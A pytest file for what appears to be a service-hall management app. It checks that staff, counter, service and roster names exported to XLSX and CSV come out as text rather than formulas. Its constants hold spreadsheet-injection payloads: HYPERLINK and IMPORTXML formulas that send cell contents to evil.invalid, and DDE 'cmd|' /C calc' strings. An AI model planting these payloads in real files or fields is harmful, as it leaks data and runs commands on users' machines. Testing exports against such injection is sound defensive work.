"""Names staff and managers type in come out of every export as text, never as a formula.

A hall, a service, a counter, a staff member and a roster entry are given names that a
spreadsheet would run (``=HYPERLINK(...)``, ``+...``, ``-...``, ``@...``); the hall serves and
rates a customer. Every file the system hands out is then opened as Excel (openpyxl) and as CSV
(the csv module) and searched for a cell that would run: none may be found, and the names are
still there to read.
"""
from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime, timezone

import pytest
from openpyxl import load_workbook

from app.services import config, imports, report_files, roster, service_levels

from ..world import build_world, sign_in
from .test_surveys import API, headers, reply, sapp, send_now, serve, srt  # noqa: F401  (fixtures)

STAFF_NAME = '=HYPERLINK("http://evil.invalid/?leak="&A1,"Click me")'
STAFF_NUMBER = "@SUM(1+1)*cmd|' /C calc'!A0"
COUNTER_NAME = "+1+cmd|' /C calc'!A0"
SERVICE_NAME = "-2+3+cmd|' /C calc'!A0"
HALL_NAME = "=1+2 营业厅"
ROSTER_NOTE = "=IMPORTXML(CONCAT(\"http://evil.invalid/?\",A2),\"//a\")"
RUNS = ("=", "+", "-", "@", "\t", "\r")
A_NUMBER = re.compile(r"[+-]?[0-9.]+%?")  # "-1.5", "-3.0%": no spreadsheet runs these
DAY = "2026-11-23"


@pytest.fixture
def hostile(srt, sapp, clock):
    """Hall 1 with hostile names, one customer served at counter 1 by s1 and rated 1 (very satisfied)."""
    world = build_world(srt)
    one = world.one
    config.update_hall(srt, one.id, {"name_zh": HALL_NAME})
    config.update_service(srt, one.services["A"], {"name_zh": SERVICE_NAME})
    config.update_counter(srt, one.counters[1], {"name": COUNTER_NAME})
    config.update_staff(srt, one.staff["s1"], {"name": STAFF_NAME, "staff_number": STAFF_NUMBER})
    roster.add_member(srt, one.id, {"mobile": "13900139000", "name": STAFF_NAME, "star_level": 5, "note": ROSTER_NOTE})
    clock.now = datetime(2026, 11, 23, 2, 0, tzinfo=timezone.utc)
    serve(srt, world)
    send_now(srt, clock)
    reply(srt, "1")
    service_levels.rebuild(srt, date(2026, 11, 22), date(2026, 11, 24))
    return world


def _xlsx_cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def _would_run(text) -> bool:
    return isinstance(text, str) and text.startswith(RUNS) and not A_NUMBER.fullmatch(text)


def assert_no_formula(name: str, fmt: str, content: bytes) -> list[str]:
    """The file's cells as text, after checking that none would run."""
    if fmt == "xlsx":
        cells = _xlsx_cells(content)
        formulas = [f"{c.coordinate}: {c.value!r}" for c in cells if c.data_type == "f" or _would_run(c.value)]
        texts = [str(c.value) for c in cells if c.value is not None]
    else:
        texts = _csv_cells(content)
        formulas = [repr(t) for t in texts if _would_run(t)]
    assert not formulas, f"{name} ({fmt}) has cells a spreadsheet runs: {formulas}"
    return texts


def _shows(texts: list[str], *names: str) -> bool:
    return all(any(name in text for text in texts) for name in names)


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_no_report_or_list_export_holds_a_formula_and_the_names_still_read(srt, sapp, hostile, fmt):
    one = hostile.one
    client = sapp.test_client()
    hq, manager = headers(srt, hostile, "hq"), headers(srt, hostile, "m1")
    downloads = {
        "satisfaction-halls": (f"{API}/satisfaction/halls?period=day&date={DAY}", hq, (HALL_NAME,)),
        "satisfaction-by-staff": (f"{API}/halls/{one.id}/satisfaction?by=staff&period=day&date={DAY}", manager,
                                  (STAFF_NAME, STAFF_NUMBER, HALL_NAME)),
        "satisfaction-by-service": (f"{API}/halls/{one.id}/satisfaction?by=service&period=day&date={DAY}", manager,
                                    (SERVICE_NAME,)),
        "service-levels-halls": (f"{API}/service-levels/halls?period=day&date={DAY}", hq, (HALL_NAME,)),
        "service-levels-by-staff": (f"{API}/halls/{one.id}/service-levels?by=staff&period=day&date={DAY}", manager,
                                    (STAFF_NAME, STAFF_NUMBER)),
        "tickets-behind-a-figure": (f"{API}/halls/{one.id}/service-levels/tickets?period=day&date={DAY}", manager,
                                    (STAFF_NAME,)),
    }
    for name, (url, who, names) in downloads.items():
        resp = client.get(f"{url}&format={fmt}", headers=who)
        assert resp.status_code == 200, (name, resp.get_data(as_text=True))
        texts = assert_no_formula(name, fmt, resp.data)
        assert _shows(texts, *names), (name, texts)

    admin = sapp.test_client()
    sign_in(admin, "admin")
    for kind, names in (("staff", (STAFF_NAME, STAFF_NUMBER)), ("counters", (COUNTER_NAME,)),
                        ("vip", (STAFF_NAME, ROSTER_NOTE))):
        resp = admin.get(f"/admin/halls/{one.id}/export/{kind}.{fmt}")
        assert resp.status_code == 200, (kind, resp.get_data(as_text=True))
        assert _shows(assert_no_formula(kind, fmt, resp.data), *names), kind


def test_stored_report_files_hold_no_formula(srt, hostile):
    for family in report_files.FAMILIES:
        report_files.make_reports(srt, date(2026, 11, 23), family)
    stored = report_files.list_reports(srt)
    assert stored
    for row in stored:
        content = report_files.report_file(srt, row["id"])["content"]
        assert_no_formula(row["file_name"], report_files.FORMAT, content)


def test_an_exported_list_imports_back_unchanged(srt, hostile):
    one = hostile.one
    for kind in ("staff", "counters", "vip"):
        for fmt in ("xlsx", "csv"):
            content, filename, _ = imports.export(srt, one.id, kind, fmt)
            plan = imports.plan(srt, one.id, kind, filename, content)
            assert plan["counts"]["update"] == plan["counts"]["reject"] == 0, (kind, fmt, plan["lines"])
